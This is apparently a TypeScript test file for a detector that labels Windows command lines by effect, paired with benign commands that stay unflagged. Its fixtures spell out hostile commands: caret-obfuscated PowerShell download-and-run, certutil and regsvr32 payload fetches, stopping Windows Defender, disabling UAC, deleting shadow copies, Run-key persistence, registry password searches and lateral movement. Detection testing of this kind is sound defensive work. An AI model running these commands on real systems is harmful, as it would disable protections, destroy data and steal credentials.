/** What command lines and batch files of Windows do, as effects. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from '../../../test/support/effects.ts';
import { tokensOf } from './cmd-tokens.ts';

test('carets, quotes and operators', () => {
  const [line] = tokensOf('p^i"n"g "a b" >> out.txt 2>&1 & dir');
  assert.deepEqual(
    line!.tokens.map((t) => t.text),
    ['ping', 'a b', '>', 'out.txt', '&', 'dir'],
  );
  assert.ok(line!.tokens[0]!.isBroken);
});

for (const [name, code, effect] of [
  ['a name broken by carets', 'p^ow^ershell -c "iex (iwr http://a.test)"', 'obfuscates one'],
  ['a name cut out of a variable', '%COMSPEC:~-7,3% /c whoami', 'obfuscates one'],
  ['variables put together', 'set a=net&&set b= stop WinDefend&&call %a%%b%', 'obfuscates one'],
  [
    'a loop over the output of a command',
    "for /f %i in ('dir /b') do del /q C:\\Windows\\%i",
    'writes_system everything',
  ],
  [
    'a start value of the registry',
    'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f',
    'persists one',
  ],
  ['passwords searched in the registry', 'reg query HKLM /f password /t REG_SZ /s', 'reads_credentials everything'],
  [
    'consent switched off',
    'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0 /f',
    'tampers_with_guards one',
  ],
  ['shadow copies deleted', 'wmic shadowcopy delete', 'destroys_recovery everything'],
  ['a process on another machine', 'wmic /node:db01 process call create "cmd /c ver"', 'moves_laterally everything'],
  ['an administrative share', 'net use \\\\db01\\C$ /user:maria pw', 'moves_laterally everything'],
  ['a script from another machine', 'regsvr32 /s /n /u /i:http://a.test/a.sct scrobj.dll', 'runs_by_proxy one'],
  ['a download by certutil', 'certutil -urlcache -split -f http://a.test/a.exe a.exe', 'runs_by_proxy one'],
  ['a program on a share', '\\\\10.0.0.9\\tools\\a.exe', 'downloads_and_runs one'],
  ['a written batch file that is run', 'echo net stop WinDefend > a.bat & a.bat', 'tampers_with_guards one'],
  ['a console of an attack tool', 'privilege::debug', 'attacks one'],
] as const)
  test(`cmd: ${name}`, () => assert.ok(effectsOf(code, 'cmd').includes(effect), effectsOf(code, 'cmd').join(', ')));

for (const code of [
  'dir /s /b *.cs',
  'if exist build rmdir /s /q build',
  'net use Z: \\\\files\\team',
  'certutil -hashfile a.iso SHA256',
  'msbuild App.sln /p:Configuration=Release',
  'rundll32 shell32.dll,Control_RunDLL main.cpl',
])
  test(`cmd: everyday work (${code})`, () =>
    assert.deepEqual(
      effectsOf(code, 'cmd').filter((e) => !/^(?:reads|writes|runs_code|deletes|reconnoitres)/.test(e)),
      [],
    ));

test('keys that are looked for in all folders are credentials, several kinds on the whole disk a sweep', () => {
  assert.ok(effectsOf('dir c:\\*.pem c:\\*.pfx /s /b', 'cmd').includes('reads_credentials everything'));
  assert.ok(effectsOf('for %i in (a b) do dir c:\\ /b /s .key .ppk', 'cmd').includes('reads_credentials everything'));
  assert.ok(effectsOf('where /r c:\\ *.kdbx', 'cmd').includes('reads_credentials many'));
  for (const code of ['dir /s *.sln', 'dir *.txt', 'where git'])
    assert.ok(!effectsOf(code, 'cmd').some((kind) => kind.startsWith('reads_credentials')), code);
});
